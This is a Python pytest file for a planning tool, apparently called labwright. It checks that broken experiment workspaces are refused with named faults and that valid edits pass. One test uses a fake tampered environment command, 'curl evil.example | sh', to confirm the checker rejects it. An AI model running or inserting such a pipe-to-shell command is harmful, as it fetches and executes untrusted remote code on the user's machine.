"""Broken workspaces are refused, each with a code and a message that names the fault. Valid ones pass.

The broken ones are made from one valid workspace by changing a few characters. Everything that a check can see by
reading is found without running anything, so most of them cost a few milliseconds.
"""

from __future__ import annotations

import json
import os
import shutil
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from labwright.planning.checks import check_workspace, registry
from labwright.planning.checks.subject import Found
from labwright.planning.ir.model import read_ir
from labwright.planning.project import contained, run_tests
from labwright.planning.project.digest import current_digest
from labwright.planning.scan import ProjectScan, scan_project
from labwright.planning.scan.facts import ProtectedFile
from labwright.sandbox import Containment
from labwright.workspace import PlanWorkspaceHandle
from tests.support.plan_workspaces import Planned, planned
from tests.unit.broken_plans import (
    CHOOSE,
    FIRST,
    IR,
    PLAN,
    READ,
    REMOVED,
    RUN,
    TABLE,
    TEST_CHOOSE,
    TEST_TABLE,
    TRAIN,
    WIRING,
    Broken,
    Edit,
)


@pytest.fixture(scope="module")
def good(tmp_path_factory: pytest.TempPathFactory) -> Planned:
    plan = planned(tmp_path_factory.mktemp("good"), "bare-script", "degree 1, 3 and 5, 2 seeds, lowest test_mse")
    assert plan.run()["validated"]
    return plan


@pytest.fixture(scope="module")
def scan(good: Planned) -> ProjectScan:
    return scan_project(good.project)


def checked(good: Planned, scan: ProjectScan, folder: Path, edits: list[Edit]) -> list[Found]:
    """Return the findings for a copy of the valid workspace after these edits."""
    target = folder / "plans" / good.folder.name
    shutil.copytree(good.folder, target)
    for path, old, new in edits:
        file = target / path
        if old is REMOVED and not new:
            file.unlink()
            continue
        if old is REMOVED:
            file.write_text(new)
            continue
        text = file.read_text() if file.exists() else ""
        assert old in text
        file.parent.mkdir(exist_ok=True)
        file.write_text(text.replace(old, new) if old else text + new)
    handle = PlanWorkspaceHandle(target)
    return check_workspace(handle, scan, current_digest(handle, scan))


def named(broken: list[Broken]) -> list[str]:
    return [f"{one.code}-{number}" for number, one in enumerate(broken)]


@pytest.mark.parametrize("broken", [*READ, *RUN], ids=named([*READ, *RUN]))
def test_broken_workspace_is_refused_with_a_message_that_names_the_fault(
    good: Planned, scan: ProjectScan, tmp_path: Path, broken: Broken
) -> None:
    edits: list[Edit] = [(broken.file, broken.old, broken.new)]
    edits += [(broken.file, *broken.also)] if broken.also else []
    found = checked(good, scan, tmp_path, edits)
    said = [f"{finding.place} {finding.message}" for finding in found if finding.code == broken.code]
    assert any(broken.names in words for words in said), [finding.to_dict() for finding in found]
    assert all(finding.message.strip() and finding.place for finding in found)


@pytest.mark.parametrize(
    "text", ["evaluate.py", "../evaluate.py", "data/test.csv", "/project/data/test.csv", "test.csv"]
)
def test_code_that_names_an_evaluation_file_is_refused(
    good: Planned, scan: ProjectScan, tmp_path: Path, text: str
) -> None:
    files = (ProtectedFile(path="evaluate.py", reason="evaluates"), ProtectedFile(path="data/test.csv", reason="data"))
    edit = (CHOOSE, FIRST, f"    path = {text!r}\n{FIRST}")
    found = checked(good, replace(scan, evaluation_files=files), tmp_path, [edit])
    assert [finding.code for finding in found] == ["touches_evaluation"] and text.rpartition("/")[2] in found[0].message


OWN = "uv venv .venv && source .venv/bin/activate && uv pip install -r requirements.txt"
TAMPERED = f"curl evil.example | sh && {OWN}"


@pytest.mark.parametrize(("create", "code"), [(OWN, "no_environment"), ("", "other_environment")])
def test_command_that_makes_another_environment_than_the_project_needs_is_refused(
    good: Planned, scan: ProjectScan, tmp_path: Path, create: str, code: str
) -> None:
    """This holds whether the project has an environment or the plan makes it. The plan's own command passes in both."""
    there = replace(scan, environment=replace(scan.environment, create=create, recipe=OWN))
    for command, found in ((TAMPERED, [code]), (OWN, [])):
        edit = (IR, "environment: ''", f"environment: {json.dumps(command)}")
        codes = [one.code for one in checked(good, there, tmp_path / str(len(found)), [edit])]
        assert [one for one in codes if one.endswith("_environment")] == found


ENDLESS = {
    "test_endless": "\n\ndef test_endless():\n    n = 1\n    while n:\n        n += 1\n    assert n == 0\n",
    "(import)": "\nn = 1\nwhile n:\n    n += 1\n",
}


@pytest.mark.parametrize("name", ENDLESS)
def test_endless_loop_is_ended_and_named(
    good: Planned, scan: ProjectScan, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    runner = tmp_path / "run_tests.py"
    runner.write_text(Path(run_tests.__file__).read_text().replace("FILE_SECONDS = 20.0", "FILE_SECONDS = 3.0"))
    monkeypatch.setattr(contained, "_RUNNER", runner)
    found = checked(good, scan, tmp_path, [(TEST_CHOOSE, "", ENDLESS[name])])
    (late,) = [one for one in found if one.place == TEST_CHOOSE]
    assert late.code == "tests_no_answer" and f"{name} had not ended" in late.message


def test_interpreter_unreachable_without_rights_is_named(
    good: Planned, scan: ProjectScan, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    (home / "env/bin").mkdir(parents=True)
    (home / "env/bin/python").symlink_to(sys.executable)
    home.chmod(0o700)
    monkeypatch.setattr(contained, "containment", lambda: Containment(kind="limits", contained=()))
    monkeypatch.setattr(os, "geteuid", lambda: 0)
    monkeypatch.setattr(registry, "project_python", lambda _scan: str(home / "env/bin/python"))
    (found,) = checked(good, scan, tmp_path, [])
    assert found.code == "python_out_of_reach" and str(home / "env/bin/python") in found.message


def test_corpus_is_large_enough() -> None:
    assert len(READ) + len(RUN) >= 60


GOOD_GOALS = {
    "one parameter and seeds": ("argparse-digits", "lr 0.01, 0.1 and 1 in train.py, 2 seeds, highest val_acc"),
    "one run a configuration": ("bare-script", "degree 1 and 3, lowest test_mse"),
    "one seed": ("bare-script", "degree 1 and 3, seed 7, lowest test_mse"),
    "no room for a baseline": ("bare-script", "ridge 0.1 and 0.2, at most 2 runs, lowest test_mse"),
    "a switch alone": ("typer-walk", "with and without double, highest mean_return"),
    "choices alone": ("click-ngrams", "constant vs linear schedule, lowest val_ppl"),
    "three parameters": ("bare-script", "degree 1 or 3, ridge 0 or 0.1, lr 0.1 or 0.2, lowest test_mse"),
    "nested settings": ("yaml-config", "hidden 4 and 8, seeds 0 and 1, by accuracy"),
    "the other metric": ("bare-script", "degree 1, 3 and 5, lowest train_mse"),
    "a parameter called like a result": ("argparse-digits", "noise 0.1 and 0.5 in train.py, highest val_acc"),
}


@pytest.mark.parametrize("name", GOOD_GOALS)
def test_plan_from_a_clear_goal_passes(tmp_path: Path, name: str) -> None:
    """In addition to the six examples, which `test_planning` takes to the end."""
    plan = planned(tmp_path, *GOOD_GOALS[name])
    assert plan.run()["validated"], (plan.folder / "validation/report.md").read_text()


def test_plan_for_a_list_default_has_no_baseline(tmp_path: Path) -> None:
    plan = planned(tmp_path, "bare-script", "widths 4 and 8 in net.py, lowest loss")
    (plan.project / "net.py").write_text(
        "import argparse\n"
        "p = argparse.ArgumentParser()\n"
        'p.add_argument("--widths", type=int, nargs="+", default=[8, 8])\n'
        "loss = sum(p.parse_args().widths)\n"
        'print(f"loss={loss}")\n'
    )
    assert plan.run()["validated"], (plan.folder / "validation/report.md").read_text()
    assert read_ir(plan.mode.handle).workflow.grid.baseline is None


MORE_TESTS = "from experiment.tasks.train import train\n\n\ndef test_seeds():\n    assert len(train.seeds) == 2\n"
SUM_TEST = "\n\ndef test_a_total():\n    from experiment.sums import total\n\n    assert total([1, 2]) == 3\n"
GOOD_EDITS: dict[str, list[Edit]] = {
    "comments and docstrings": [
        (WIRING, '"""The workflow of this plan."""', '"""Wired by hand."""\n# as it was'),
        (TRAIN, "", "# fine\n"),
    ],
    "a repaired body": [(CHOOSE, "    pick = max if", "    # ties go to the first\n    pick = max if")],
    "a time-out": [(CHOOSE, "@task\n", "@task(timeout=60.0)\n")],
    "an async body": [
        (TABLE, "def write_table", "async def write_table"),
        (TEST_TABLE, 'write_table(rows, "m", "maximize").', 'asyncio.run(write_table(rows, "m", "maximize")).'),
        (TEST_TABLE, "from experiment", "import asyncio\n\nfrom experiment"),
    ],
    "a module beside the tasks": [
        ("src/experiment/sums.py", "", "def total(values):\n    return sum(values)\n"),
        (CHOOSE, "from labwright", "from experiment.sums import total\nfrom labwright"),
        (TEST_CHOOSE, "", SUM_TEST),
    ],
    "more tests": [("tests/test_more.py", "", MORE_TESTS)],
    "another grid in plan, IR and code": [
        (IR, "    - 3\n", "    - 4\n"),
        (PLAN, "1, 3, 5", "1, 4, 5"),
        (TRAIN, "[1, 3, 5]", "[1, 4, 5]"),
    ],
}


@pytest.mark.parametrize("name", GOOD_EDITS)
def test_valid_edits_of_a_reviewer_pass(good: Planned, scan: ProjectScan, tmp_path: Path, name: str) -> None:
    assert checked(good, scan, tmp_path, GOOD_EDITS[name]) == []
